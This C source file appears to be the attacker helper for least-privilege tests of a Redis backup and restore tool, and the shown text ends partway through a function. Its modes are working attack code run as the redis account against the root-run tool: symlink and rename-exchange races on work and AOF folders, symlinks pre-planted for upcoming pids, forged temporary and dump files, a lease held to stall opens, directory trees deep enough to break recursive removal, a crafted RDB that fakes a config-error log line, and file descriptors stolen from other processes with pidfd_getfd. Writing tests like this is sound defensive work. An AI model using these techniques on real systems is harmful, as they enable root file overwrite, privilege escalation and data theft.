/*
 * The attacker of the least-privilege tests (tests/integration/least_privilege.rs).
 *
 * Run by the tests as the unprivileged user that owns the Redis data dir
 * (setpriv --reuid --regid --clear-groups), never as root: everything it does,
 * the redis account could do. Each mode prepares what it needs, creates the
 * file READY (the test waits for it before running the tool), then races the
 * root-run tool, by inotify on the data dir (it acts the instant a name
 * appears) or by tight polling, and says what it did on stdout, one line per
 * move. It runs until it is killed.
 *
 * usage: rb-attacker MODE READY DATA_DIR ARGS...
 *
 *   swap-workdir READY DATA VICTIM PREVIOUS FAILED
 *       When restore's work folder (redis-backup-restore-*) appears, wait for
 *       the next event in the data dir (Redis stopping: its shutdown save),
 *       rename the folder away and put one of our own in its place, with
 *       incoming.rdb a symlink to VICTIM, previous/ a symlink to PREVIOUS and
 *       failed/ one to FAILED (or, for "-", previous/ a directory of ours and
 *       no failed/).
 *
 *   aof-dir READY DATA symlink|entry VICTIM_DIR VICTIM_FILE
 *       When appendonlydir is created anew (the AOF rebuild) and its manifest
 *       is written, exchange it (renameat2 RENAME_EXCHANGE, atomic) for
 *         symlink: a symlink to VICTIM_DIR, with appendonly.aof (the pre-7
 *                  AOF name, so the rebuild still looks finished) a symlink
 *                  to VICTIM_FILE;
 *         entry:   a directory of ours holding copies of its files plus
 *                  appendonly.aof.9.incr.aof, a symlink to VICTIM_FILE.
 *
 *   plant-rewrite READY DATA VICTIM
 *       Keep temp-rewriteaof-<pid>.aof and temp-rewriteaof-bg-<pid>.aof
 *       symlinks to VICTIM planted in the data dir for the next 1000 pids the
 *       kernel will hand out (polling /proc/sys/kernel/ns_last_pid), so that
 *       the AOF rewrite child of any redis-server working there writes
 *       through them.
 *
 *   swap-temp READY DIR
 *       Each time a temporary file of root's (.tmp-*) is created in DIR (a
 *       folder of ours), rename it away and put a file of ours, holding
 *       FORGED, under its name, before root links it into place.
 *
 *   forge-refusal READY DATA
 *       When a work folder's aof/ is ours, put there the RDB name the private
 *       server proving redis.conf starts on, holding a key twice whose name
 *       is "FATAL CONFIG FILE ERROR": logged as it exits, as if the server
 *       had refused its config.
 *
 *   swap-dump READY DATA TARGET
 *       Each time Redis renames a fresh dump.rdb into place (IN_MOVED_TO),
 *       replace it at once (rename of a prepared symlink) with a symlink to
 *       TARGET.
 *
 *   lease READY FILE
 *       Take a write lease (F_SETLEASE F_WRLCK) on FILE, one of the account's
 *       own, and never give it up when the kernel asks: every open of FILE by
 *       another process then waits the kernel's lease-break-time (45 s) unless
 *       it asked not to wait (O_NONBLOCK). Says each time a break is asked.
 *
 *   aof-build READY DATA plant|symlink|entry|deep VICTIM_DIR VICTIM_FILE
 *       Poll the data dir for restore's work folder (redis-backup-restore-*)
 *       and its aof/ (where the private server rebuilds the AOF while Redis
 *       still runs), and get into aof/ the moment it is ours. There, probe
 *       what the work folder gives away ("forbidden ...: refused" or
 *       "forbidden ...: ALLOWED", one line each: listing the work folder,
 *       reading its journal and log, writing, truncating, chmod/chown or
 *       linking the staged RDB through its hard link in aof/; and
 *       "by design ..." for reading the staged RDB through the group), then
 *         plant:   keep temp-rewriteaof-<pid>.aof and -bg-<pid>.aof symlinks
 *                  to VICTIM_FILE planted in aof/ for the next 1000 pids;
 *         symlink: once aof/appendonlydir has its manifest, make
 *                  aof/appendonly.aof a symlink to VICTIM_FILE and exchange
 *                  appendonlydir for a symlink to VICTIM_DIR;
 *         entry:   the same moment, exchange it for a directory of ours with
 *                  copies of its files and appendonly.aof.9.incr.aof, a
 *                  symlink to VICTIM_FILE;
 *         deep:    at once, build a chain of DEEP_LEVELS nested directories
 *                  in aof/ (what root removes once the AOF is placed), the
 *                  deepest holding a symlink to VICTIM_FILE.
 *       Then say what became of aof/ (appendonlydir moved out, aof/ gone).
 *
 *   replant-dump READY DATA
 *       The first time dump.rdb leaves the data dir (restore moving the old
 *       data aside), put a file of ours under its name at once, so that the
 *       restored one cannot be placed and the restore rolls back; once.
 *
 *   steal-fds READY
 *       Take every descriptor from 3 on of every process of ours but this
 *       one (Redis, and whatever the tool starts as the account) with
 *       pidfd_getfd, which asks for nothing but the same uid and a dumpable
 *       process, and read its first bytes: "process PID: CMDLINE" the first
 *       time a process is seen, then "took fd N of PID (TARGET): BYTES",
 *       once each.
 */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <signal.h>
#include <stdarg.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

#define WORK_PREFIX "redis-backup-restore-"
#define AOF_DIR "appendonlydir"
#define AOF_MANIFEST "appendonly.aof.manifest"
#define DUMP "dump.rdb"

static void say(const char *fmt, ...)
{
    va_list ap;
    va_start(ap, fmt);
    vprintf(fmt, ap);
    va_end(ap);
    putchar('\n');
    fflush(stdout);
}

__attribute__((noreturn)) static void die(const char *what)
{
    say("error: %s: %s", what, strerror(errno));
    exit(2);
}

/* Tell the test we are armed. */
static void armed(const char *ready)
{
    int fd = open(ready, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
    if (fd < 0)
        die(ready);
    close(fd);
    say("armed (uid %d, gid %d)", (int)getuid(), (int)getgid());
}

__attribute__((noreturn)) static void idle_forever(void)
{
    for (;;)
        pause();
}

static void in_dir(const char *dir)
{
    if (chdir(dir) != 0)
        die(dir);
}

static int starts_with(const char *s, const char *prefix)
{
    return strncmp(s, prefix, strlen(prefix)) == 0;
}

/* inotify events, one at a time. */
struct events {
    int fd;
    ssize_t len, pos;
    char buf[64 * 1024] __attribute__((aligned(__alignof__(struct inotify_event))));
};

static struct events *events_new(void)
{
    struct events *e = calloc(1, sizeof *e);
    if (!e)
        die("calloc");
    e->fd = inotify_init1(IN_CLOEXEC);
    if (e->fd < 0)
        die("inotify_init1");
    return e;
}

static int watch(struct events *e, const char *path, uint32_t mask)
{
    int wd = inotify_add_watch(e->fd, path, mask);
    if (wd < 0)
        die(path);
    return wd;
}

static struct inotify_event *next_event(struct events *e)
{
    if (e->pos >= e->len) {
        do
            e->len = read(e->fd, e->buf, sizeof e->buf);
        while (e->len < 0 && errno == EINTR);
        if (e->len <= 0)
            die("read inotify");
        e->pos = 0;
    }
    struct inotify_event *ev = (struct inotify_event *)(e->buf + e->pos);
    e->pos += sizeof *ev + ev->len;
    if (ev->mask & IN_Q_OVERFLOW)
        say("warning: inotify queue overflow");
    return ev;
}

static void symlink_or_die(const char *target, const char *path)
{
    if (symlink(target, path) != 0)
        die(path);
}

/* ------------------------------------------------------------------------ */

static int swap_workdir(char **a)
{
    const char *victim = a[1], *previous = a[2], *failed = a[3];
    in_dir(a[0]);
    struct events *e = events_new();
    watch(e, ".", IN_CREATE | IN_MOVED_FROM | IN_MOVED_TO | IN_DELETE);
    armed(a[-1]);
    char work[NAME_MAX + 1] = "";
    for (;;) {
        struct inotify_event *ev = next_event(e);
        if (!ev->len)
            continue;
        if (!work[0]) {
            if ((ev->mask & IN_CREATE) && (ev->mask & IN_ISDIR) && starts_with(ev->name, WORK_PREFIX)) {
                snprintf(work, sizeof work, "%s", ev->name);
                say("restore created its work folder %s", work);
            }
            continue;
        }
        if (strcmp(ev->name, work) == 0)
            continue;
        say("%s in the data dir (0x%x): staging is over; swapping the work folder", ev->name, ev->mask);
        char path[PATH_MAX];
        snprintf(path, sizeof path, ".stolen-%s", work);
        if (rename(work, path) != 0)
            die("rename the work folder away");
        if (mkdir(work, 0755) != 0)
            die("mkdir our work folder");
        snprintf(path, sizeof path, "%s/previous", work);
        if (strcmp(previous, "-") == 0) {
            if (mkdir(path, 0777) != 0)
                die(path);
        } else {
            symlink_or_die(previous, path);
        }
        if (strcmp(failed, "-") != 0) {
            snprintf(path, sizeof path, "%s/failed", work);
            symlink_or_die(failed, path);
        }
        snprintf(path, sizeof path, "%s/incoming.rdb", work);
        symlink_or_die(victim, path);
        say("swapped: %s is ours, incoming.rdb -> %s, previous -> %s, failed -> %s", work, victim, previous,
            failed);
        idle_forever();
    }
    return 0;
}

/* ------------------------------------------------------------------------ */

static void copy_file(const char *from, const char *to)
{
    int in = open(from, O_RDONLY | O_CLOEXEC);
    if (in < 0)
        die(from);
    int out = open(to, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
    if (out < 0)
        die(to);
    char buf[64 * 1024];
    ssize_t n;
    while ((n = read(in, buf, sizeof buf)) > 0)
        if (write(out, buf, n) != n)
            die(to);
    if (n < 0)
        die(from);
    close(in);
    close(out);
}

static int aof_dir(char **a)
{
    const char *mode = a[1], *victim_dir = a[2], *victim_file = a[3];
    if (strcmp(mode, "symlink") != 0 && strcmp(mode, "entry") != 0) {
        say("error: unknown aof-dir mode %s", mode);
        return 2;
    }
    in_dir(a[0]);
    struct events *e = events_new();
    int wd_data = watch(e, ".", IN_CREATE);
    armed(a[-1]);
    int wd_aof = -1;
    for (;;) {
        struct inotify_event *ev = next_event(e);
        if (!ev->len)
            continue;
        if (ev->wd == wd_data && (ev->mask & IN_ISDIR) && strcmp(ev->name, AOF_DIR) == 0) {
            wd_aof = inotify_add_watch(e->fd, AOF_DIR, IN_MOVED_TO | IN_CLOSE_WRITE);
            if (wd_aof < 0) {
                say("cannot watch the new %s: %s", AOF_DIR, strerror(errno));
                continue;
            }
            say("%s was created anew", AOF_DIR);
            if (access(AOF_DIR "/" AOF_MANIFEST, F_OK) == 0)
                break;
            continue;
        }
        if (ev->wd == wd_aof && strcmp(ev->name, AOF_MANIFEST) == 0)
            break;
    }
    say("its manifest is written");
    if (strcmp(mode, "symlink") == 0) {
        symlink_or_die(victim_file, ".aof-file-link");
        if (rename(".aof-file-link", "appendonly.aof") != 0)
            die("rename onto appendonly.aof");
        symlink_or_die(victim_dir, ".aof-dir-link");
        if (renameat2(AT_FDCWD, ".aof-dir-link", AT_FDCWD, AOF_DIR, RENAME_EXCHANGE) != 0)
            die("exchange " AOF_DIR);
        say("swapped: %s -> %s, appendonly.aof -> %s", AOF_DIR, victim_dir, victim_file);
    } else {
        if (mkdir(".aof-copy", 0755) != 0)
            die("mkdir .aof-copy");
        DIR *d = opendir(AOF_DIR);
        if (!d)
            die(AOF_DIR);
        struct dirent *de;
        while ((de = readdir(d)) != NULL) {
            char from[PATH_MAX], to[PATH_MAX];
            struct stat st;
            snprintf(from, sizeof from, "%s/%s", AOF_DIR, de->d_name);
            if (lstat(from, &st) != 0 || !S_ISREG(st.st_mode))
                continue;
            snprintf(to, sizeof to, ".aof-copy/%s", de->d_name);
            copy_file(from, to);
            say("copied %s", de->d_name);
        }
        closedir(d);
        symlink_or_die(victim_file, ".aof-copy/appendonly.aof.9.incr.aof");
        if (renameat2(AT_FDCWD, ".aof-copy", AT_FDCWD, AOF_DIR, RENAME_EXCHANGE) != 0)
            die("exchange " AOF_DIR);
        say("swapped: %s is ours, with appendonly.aof.9.incr.aof -> %s", AOF_DIR, victim_file);
    }
    idle_forever();
    return 0;
}

/* ------------------------------------------------------------------------ */

static long read_long(const char *path)
{
    FILE *f = fopen(path, "re");
    if (!f)
        die(path);
    long v;
    if (fscanf(f, "%ld", &v) != 1) {
        errno = EINVAL;
        die(path);
    }
    fclose(f);
    return v;
}

#define AHEAD 1000
/* Where the kernel's pid numbers start again after pid_max. */
#define PID_WRAP_TO 300

/* Keeps `temp-rewriteaof-<pid>.aof` and `temp-rewriteaof-bg-<pid>.aof`
 * symlinks to a victim planted in a directory for the next AHEAD pids the
 * kernel will hand out, following the pids as they are used. */
struct planter {
    int dir;
    const char *victim;
    long pid_max, first, last, next, planted;
    /* Pids as a count that never wraps (u_*); `next` is the real next one. */
    long long u_last, u_next;
};

static void planter_init(struct planter *p, int dir, const char *victim)
{
    p->dir = dir;
    p->victim = victim;
    p->pid_max = read_long("/proc/sys/kernel/pid_max");
    p->last = read_long("/proc/sys/kernel/ns_last_pid");
    p->first = p->last + 1;
    p->u_last = 0;
    p->u_next = 1;
    p->next = p->last + 1 >= p->pid_max ? PID_WRAP_TO : p->last + 1;
    p->planted = 0;
}

/* Plant up to AHEAD pids past the last one used, wait a moment, and note
 * how far the kernel got meanwhile. */
static void planter_step(struct planter *p)
{
    while (p->u_next <= p->u_last + AHEAD) {
        char name[64];
        snprintf(name, sizeof name, "temp-rewriteaof-%ld.aof", p->next);
        if (symlinkat(p->victim, p->dir, name) == 0)
            p->planted++;
        snprintf(name, sizeof name, "temp-rewriteaof-bg-%ld.aof", p->next);
        if (symlinkat(p->victim, p->dir, name) == 0)
            p->planted++;
        p->next = p->next + 1 >= p->pid_max ? PID_WRAP_TO : p->next + 1;
        p->u_next++;
    }
    usleep(200);
    long now = read_long("/proc/sys/kernel/ns_last_pid");
    long delta = now - p->last;
    if (delta < 0)
        delta += p->pid_max - PID_WRAP_TO;
    p->u_last += delta;
    p->last = now;
}

static int plant_rewrite(char **a)
{
    in_dir(a[0]);
    struct planter p;
    planter_init(&p, AT_FDCWD, a[1]);
    planter_step(&p);
    say("planted %ld symlinks from pid %ld on", p.planted, p.first);
    armed(a[-1]);
    for (;;)
        planter_step(&p);
    return 0;
}

/* ------------------------------------------------------------------------ */

static void prepare_dump_link(const char *target)
{
    unlink(".evil-dump");
    symlink_or_die(target, ".evil-dump");
}

static int swap_dump(char **a)
{
    const char *target = a[1];
    in_dir(a[0]);
    prepare_dump_link(target);
    struct events *e = events_new();
    watch(e, ".", IN_MOVED_TO);
    armed(a[-1]);
    int swaps = 0;
    for (;;) {
        struct inotify_event *ev = next_event(e);
        if (!ev->len || strcmp(ev->name, DUMP) != 0)
            continue;
        struct stat st;
        if (lstat(DUMP, &st) != 0 || !S_ISREG(st.st_mode))
            continue; /* our own rename, or already gone */
        if (rename(".evil-dump", DUMP) != 0) {
            say("could not swap %s: %s", DUMP, strerror(errno));
        } else {
            say("swapped %s for a symlink to %s (%d)", DUMP, target, ++swaps);
        }
        prepare_dump_link(target);
    }
    return 0;
}

/* ------------------------------------------------------------------------ */

/* The forged file put in place of a temporary file of root's. */
#define FORGED "forged by the account\n"

static int swap_temp(char **a)
{
    in_dir(a[0]);
    struct events *e = events_new();
    watch(e, ".", IN_CREATE);
    armed(a[-1]);
    int swaps = 0;
    for (;;) {
        struct inotify_event *ev = next_event(e);
        struct stat st;
        if (!ev->len || !starts_with(ev->name, ".tmp-") || lstat(ev->name, &st) != 0 ||
            st.st_uid == getuid())
            continue; /* not root's, or our own put in place */
        char stolen[64];
        snprintf(stolen, sizeof stolen, ".stolen-%d", swaps);
        if (rename(ev->name, stolen) != 0) {
            say("could not take %s: %s", ev->name, strerror(errno));
            continue;
        }
        int fd = open(ev->name, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
        if (fd < 0 || write(fd, FORGED, strlen(FORGED)) < 0)
            die("put a forged file in its place");
        close(fd);
        say("swapped %s for a file of ours (%d)", ev->name, ++swaps);
    }
    return 0;
}

/* ------------------------------------------------------------------------ */

/* A move that must be refused: say which, and how. */
static void forbidden(const char *what, int ok)
{
    if (ok)
        say("forbidden %s: ALLOWED", what);
    else
        say("forbidden %s: refused (%s)", what, strerror(errno));
}

/* Poll the data dir for the newest work folder; 0 when there is none. */
static int find_work(char *work, size_t size)
{
    DIR *d = opendir(".");
    if (!d)
        die("opendir the data dir");
    int found = 0;
    struct dirent *de;
    while ((de = readdir(d)) != NULL) {
        if (!starts_with(de->d_name, WORK_PREFIX) || strcmp(de->d_name, work) <= 0)
            continue;
        snprintf(work, size, "%s", de->d_name);
        found = 1;
    }
    closedir(d);
    return found;
}

/* The work folder's own files, root's 0600: not even readable. */
static void probe_root_files(const char *work)
{
    char path[PATH_MAX];
    const char *root_only[] = {"journal", "private-redis.pid", "private-redis.log"};
    for (size_t i = 0; i < sizeof root_only / sizeof root_only[0]; i++) {
        snprintf(path, sizeof path, "%s/%s", work, root_only[i]);
        int fd = open(path, O_RDONLY | O_CLOEXEC);
        char what[PATH_MAX + 32];
        snprintf(what, sizeof what, "read %s", root_only[i]);
        forbidden(what, fd >= 0);
        if (fd >= 0)
            close(fd);
    }
}

static void probe_work_folder(const char *work, int aof)
{
    char path[PATH_MAX];
    DIR *d = opendir(work);
    forbidden("list the work folder", d != NULL);
    if (d)
        closedir(d);
    probe_root_files(work);
    snprintf(path, sizeof path, "%s/incoming.rdb", work);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0) {
        say("by design read incoming.rdb: refused (%s)", strerror(errno));
    } else {
        struct stat st;
        char head[9] = "";
        long long total = 0;
        char buf[64 * 1024];
        ssize_t n;
        fstat(fd, &st);
        while ((n = read(fd, buf, sizeof buf)) > 0) {
            if (total == 0)
                memcpy(head, buf, n < 8 ? n : 8);
            total += n;
        }
        close(fd);
        for (int i = 0; i < 8; i++)
            if (head[i] < 32 || head[i] > 126)
                head[i] = '.';
        say("by design read incoming.rdb (uid %d gid %d mode %04o nlink %d): %lld bytes, starting %s",
            (int)st.st_uid, (int)st.st_gid, (int)(st.st_mode & 07777), (int)st.st_nlink, total, head);
    }
    fd = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
    forbidden("open incoming.rdb for writing", fd >= 0);
    if (fd >= 0)
        close(fd);
    /* The staged RDB's hard link in aof/: everything in aof/ that is not ours. */
    DIR *a = fdopendir(dup(aof));
    if (!a)
        die("fdopendir aof/");
    struct dirent *de;
    while ((de = readdir(a)) != NULL) {
        struct stat st;
        if (fstatat(aof, de->d_name, &st, AT_SYMLINK_NOFOLLOW) != 0 || !S_ISREG(st.st_mode))
            continue;
        say("aof/ holds %s (uid %d gid %d mode %04o nlink %d)", de->d_name, (int)st.st_uid, (int)st.st_gid,
            (int)(st.st_mode & 07777), (int)st.st_nlink);
        if (st.st_uid == getuid())
            continue;
        char what[NAME_MAX + 64];
        snprintf(what, sizeof what, "open aof/%s read-write", de->d_name);
        fd = openat(aof, de->d_name, O_RDWR | O_CLOEXEC);
        forbidden(what, fd >= 0);
        if (fd >= 0)
            close(fd);
        snprintf(what, sizeof what, "open aof/%s with O_TRUNC", de->d_name);
        fd = openat(aof, de->d_name, O_WRONLY | O_TRUNC | O_CLOEXEC);
        forbidden(what, fd >= 0);
        if (fd >= 0)
            close(fd);
        fd = openat(aof, de->d_name, O_RDONLY | O_CLOEXEC);
        if (fd >= 0) {
            snprintf(what, sizeof what, "fchmod aof/%s 0666", de->d_name);
            forbidden(what, fchmod(fd, 0666) == 0);
            snprintf(what, sizeof what, "fchown aof/%s to us", de->d_name);
            forbidden(what, fchown(fd, getuid(), getgid()) == 0);
            close(fd);
        }
        snprintf(what, sizeof what, "hard-link aof/%s", de->d_name);
        int linked = linkat(aof, de->d_name, aof, ".our-link", 0) == 0;
        forbidden(what, linked);
        if (linked)
            unlinkat(aof, ".our-link", 0);
    }
    closedir(a);
}

/* Deeper than a removal that recurses once per level can go on a main
 * thread's 8 MiB stack, or with one descriptor open per level. */
#define DEEP_LEVELS 100000

/* A chain of `levels` directories "d" below `at`, one descriptor open at a
 * time; the deepest gets a symlink to `victim`. */
static void build_deep(int at, long levels, const char *victim)
{
    int cur = dup(at);
    for (long i = 0; i < levels; i++) {
        if (mkdirat(cur, "d", 0755) != 0)
            die("mkdir level");
        int next = openat(cur, "d", O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
        if (next < 0)
            die("open level");
        close(cur);
        cur = next;
    }
    if (symlinkat(victim, cur, "victim") != 0)
        die("symlink at the bottom");
    close(cur);
}

static int aof_build(char **a)
{
    const char *variant = a[1], *victim_dir = a[2], *victim_file = a[3];
    if (strcmp(variant, "plant") != 0 && strcmp(variant, "symlink") != 0 && strcmp(variant, "entry") != 0
        && strcmp(variant, "deep") != 0) {
        say("error: unknown aof-build variant %s", variant);
        return 2;
    }
    in_dir(a[0]);
    char work[NAME_MAX + 1] = "";
    /* Any folder there already is an old one: only a newer name counts. */
    find_work(work, sizeof work);
    char old[NAME_MAX + 1];
    snprintf(old, sizeof old, "%s", work);
    armed(a[-1]);
    long polls = 0;
    while (!find_work(work, sizeof work) || strcmp(work, old) == 0)
        usleep(100);
    say("restore created its work folder %s", work);
    char path[PATH_MAX];
    snprintf(path, sizeof path, "%s/aof", work);
    int aof;
    for (;;) {
        polls++;
        aof = open(path, O_RDONLY | O_DIRECTORY | O_NOFOLLOW | O_CLOEXEC);
        if (aof >= 0) {
            struct stat st;
            if (fstat(aof, &st) == 0 && st.st_uid == getuid())
                break;
            close(aof);
        }
        if (polls % 200000 == 0)
            say("still not in %s after %ld polls (%s)", path, polls, strerror(errno));
        usleep(50);
    }
    say("entered %s, ours, after %ld polls", path, polls);
    probe_work_folder(work, aof);

    if (strcmp(variant, "deep") == 0) {
        say("building a tree %d directories deep in aof/", DEEP_LEVELS);
        build_deep(aof, DEEP_LEVELS, victim_file);
        struct stat st;
        if (fstat(aof, &st) == 0 && st.st_nlink == 0)
            say("aof/ was removed before the tree was built");
        else
            say("built a tree %d directories deep in aof/", DEEP_LEVELS);
        for (;;) {
            if (fstat(aof, &st) == 0 && st.st_nlink == 0) {
                say("aof/ was removed");
                idle_forever();
            }
            usleep(500);
        }
    }

    if (strcmp(variant, "plant") == 0) {
        struct planter p;
        planter_init(&p, aof, victim_file);
        long rounds = 0;
        int seen_dir = 0;
        for (;;) {
            planter_step(&p);
            long planted = p.planted;
            if (rounds++ == 0)
                say("planted %ld symlinks in aof/ from pid %ld on", planted, p.first);
            struct stat st;
            if (!seen_dir && fstatat(aof, AOF_DIR, &st, AT_SYMLINK_NOFOLLOW) == 0) {
                seen_dir = 1;
                say("aof/%s appeared (%ld symlinks planted so far)", AOF_DIR, planted);
                probe_root_files(work);
            }
            if (fstat(aof, &st) == 0 && st.st_nlink == 0) {
                say("aof/ was removed (%ld symlinks planted in all)", planted);
                idle_forever();
            }
        }
    }

    polls = 0;
    while (faccessat(aof, AOF_DIR "/" AOF_MANIFEST, F_OK, 0) != 0) {
        struct stat st;
        if (fstat(aof, &st) == 0 && st.st_nlink == 0) {
            say("aof/ was removed before any manifest appeared");
            idle_forever();
        }
        polls++;
        usleep(200);
    }
    say("aof/%s/%s is written (after %ld polls)", AOF_DIR, AOF_MANIFEST, polls);
    probe_root_files(work);
    if (strcmp(variant, "symlink") == 0) {
        if (symlinkat(victim_file, aof, ".aof-file-link") != 0)
            die("symlink .aof-file-link");
        if (renameat(aof, ".aof-file-link", aof, "appendonly.aof") != 0)
            die("rename onto appendonly.aof");
        if (symlinkat(victim_dir, aof, ".aof-dir-link") != 0)
            die("symlink .aof-dir-link");
        if (renameat2(aof, ".aof-dir-link", aof, AOF_DIR, RENAME_EXCHANGE) != 0)
            die("exchange " AOF_DIR);
        say("swapped: aof/%s -> %s, aof/appendonly.aof -> %s", AOF_DIR, victim_dir, victim_file);
    } else {
        if (mkdirat(aof, ".aof-copy", 0755) != 0)
            die("mkdir .aof-copy");
        int dir = openat(aof, AOF_DIR, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
        DIR *d = dir < 0 ? NULL : fdopendir(dir);
        if (!d)
            die(AOF_DIR);
        struct dirent *de;
        while ((de = readdir(d)) != NULL) {
            char from[2 * PATH_MAX], to[2 * PATH_MAX];
            struct stat st;
            if (fstatat(dir, de->d_name, &st, AT_SYMLINK_NOFOLLOW) != 0 || !S_ISREG(st.st_mode))
                continue;
            snprintf(from, sizeof from, "%s/%s/%s", path, AOF_DIR, de->d_name);
            snprintf(to, sizeof to, "%s/.aof-copy/%s", path, de->d_name);
            copy_file(from, to);
            say("copied %s", de->d_name);
        }
        closedir(d);
        snprintf(path, sizeof path, "%s/aof/.aof-copy/appendonly.aof.9.incr.aof", work);
        symlink_or_die(victim_file, path);
        if (renameat2(aof, ".aof-copy", aof, AOF_DIR, RENAME_EXCHANGE) != 0)
            die("exchange " AOF_DIR);
        say("swapped: aof/%s is ours, with appendonly.aof.9.incr.aof -> %s", AOF_DIR, victim_file);
    }
    /* What root does with it next. */
    for (;;) {
        struct stat st;
        if (fstat(aof, &st) == 0 && st.st_nlink == 0) {
            say("aof/ was removed");
            break;
        }
        if (fstatat(aof, AOF_DIR, &st, AT_SYMLINK_NOFOLLOW) != 0) {
            struct stat placed;
            if (lstat(AOF_DIR, &placed) == 0)
                say("aof/%s was moved out; the data dir's %s is now a %s", AOF_DIR, AOF_DIR,
                    S_ISLNK(placed.st_mode) ? "symlink (ours)" : S_ISDIR(placed.st_mode) ? "directory" : "file");
            else
                say("aof/%s was moved out (not to the data dir)", AOF_DIR);
            break;
        }
        usleep(500);
    }
    idle_forever();
    return 0;
}

/* ------------------------------------------------------------------------ */

static int replant_dump(char **a)
{
    in_dir(a[0]);
    struct events *e = events_new();
    watch(e, ".", IN_MOVED_FROM | IN_DELETE);
    armed(a[-1]);
    for (;;) {
        struct inotify_event *ev = next_event(e);
        if (!ev->len || strcmp(ev->name, DUMP) != 0)
            continue;
        int fd = open(DUMP, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0600);
        if (fd < 0) {
            say("could not plant %s: %s", DUMP, strerror(errno));
            continue;
        }
        if (write(fd, "planted\n", 8) != 8)
            die("write " DUMP);
        close(fd);
        say("planted a %s of ours where the old one was", DUMP);
        idle_forever();
    }
    return 0;
}

/* The bytes of a descriptor, printable, or why there are none. */
static void first_bytes(int fd, char *out, size_t size)
{
    char buf[96];
    ssize_t n = pread(fd, buf, sizeof buf, 0);
    if (n < 0) {
        snprintf(out, size, "(unreadable: %s)", strerror(errno));
        return;
    }
    size_t j = 0;
    for (ssize_t i = 0; i < n && j + 1 < size; i++)
        out[j++] = buf[i] >= 32 && buf[i] <= 126 ? buf[i] : '.';
    out[j] = '\0';
}

#define MAX_TAKEN 4096

static int steal_fds(char **a)
{
    static struct {
        long pid;
        int fd;
    } taken[MAX_TAKEN];
    static long seen[MAX_TAKEN];
    int ntaken = 0, nseen = 0;
    armed(a[-1]);
    for (;;) {
        DIR *proc = opendir("/proc");
        if (!proc)
            die("opendir /proc");
        struct dirent *de;
        while ((de = readdir(proc)) != NULL) {
            long pid = atol(de->d_name);
            char path[PATH_MAX];
            struct stat st;
            snprintf(path, sizeof path, "/proc/%ld", pid);
            if (pid <= 0 || pid == getpid() || stat(path, &st) != 0 || st.st_uid != getuid())
                continue;
            int known = 0;
            for (int i = 0; i < nseen; i++)
                known |= seen[i] == pid;
            if (!known && nseen < MAX_TAKEN) {
                char cmdline[256] = "";
                snprintf(path, sizeof path, "/proc/%ld/cmdline", pid);
                int c = open(path, O_RDONLY | O_CLOEXEC);
                ssize_t n = c >= 0 ? read(c, cmdline, sizeof cmdline - 1) : 0;
                if (c >= 0)
                    close(c);
                for (ssize_t i = 0; i < n; i++)
                    if (cmdline[i] == '\0')
                        cmdline[i] = ' ';
                cmdline[n > 0 ? n : 0] = '\0';
                seen[nseen++] = pid;
                say("process %ld: %s", pid, cmdline);
            }
            int pidfd = syscall(SYS_pidfd_open, (pid_t)pid, 0);
            if (pidfd < 0)
                continue;
            snprintf(path, sizeof path, "/proc/%ld/fd", pid);
            DIR *fds = opendir(path);
            while (fds && (de = readdir(fds)) != NULL) {
                int fd = atoi(de->d_name);
                int done = 0;
                if (fd < 3)
                    continue;
                for (int i = 0; i < ntaken; i++)
                    done |= taken[i].pid == pid && taken[i].fd == fd;
                if (done || ntaken >= MAX_TAKEN)
                    continue;
                int got = syscall(SYS_pidfd_getfd, pidfd, fd, 0);
                if (got < 0)
                    continue;
                char link[PATH_MAX] = "", bytes[128];
                snprintf(path, sizeof path, "/proc/%ld/fd/%d", pid, fd);
                ssize_t n = readlink(path, link, sizeof link - 1);
                link[n > 0 ? n : 0] = '\0';
                first_bytes(got, bytes, sizeof bytes);
                close(got);
                taken[ntaken].pid = pid;
                taken[ntaken++].fd = fd;
                say("took fd %d of %ld (%s): %s", fd, pid, link, bytes);
            }
            if (fds)
                closedir(fds);
            close(pidfd);
        }
        closedir(proc);
        usleep(1000);
    }
    return 0;
}

/* ------------------------------------------------------------------------ */

static volatile sig_atomic_t breaks;

static void on_lease_break(int sig)
{
    (void)sig;
    breaks++;
}

static int lease(char **a)
{
    const char *file = a[0];
    /* SIGIO, the break notice, would end us by default. */
    signal(SIGIO, on_lease_break);
    int fd = open(file, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        die(file);
    if (fcntl(fd, F_SETLEASE, F_WRLCK) != 0)
        die("F_SETLEASE");
    say("holding a write lease on %s", file);
    armed(a[-1]);
    int seen = 0;
    for (;;) {
        pause();
        while (seen < breaks)
            say("a break of the lease was asked (%d); kept it", ++seen);
    }
    return 0;
}

/*
 * forge-refusal: the instant a work folder's aof/ is ours, put in it the RDB
 * name the private server that proves redis.conf is started on, holding one
 * key twice whose name is "FATAL CONFIG FILE ERROR": the server logs the key
 * as it refuses the duplicate and exits, as if it had refused its config.
 */
static int forge_refusal(char **a)
{
    static const char key[] = "FATAL CONFIG FILE ERROR";
    unsigned char rdb[256];
    size_t n = 0;
    memcpy(rdb, "REDIS0009\xfe\x00", 11);
    n = 11;
    for (int i = 0; i < 2; i++) {
        rdb[n++] = 0;
        rdb[n++] = sizeof key - 1;
        memcpy(rdb + n, key, sizeof key - 1);
        n += sizeof key - 1;
        rdb[n++] = 1;
        rdb[n++] = 'v';
    }
    rdb[n++] = 0xff;
    memset(rdb + n, 0, 8);
    n += 8;
    in_dir(a[0]);
    armed(a[-1]);
    char work[PATH_MAX] = "";
    for (;;) {
        find_work(work, sizeof work);
        if (!work[0])
            continue;
        char path[PATH_MAX + 64];
        snprintf(path, sizeof path, "%s/aof/redis-backup-no-data.rdb", work);
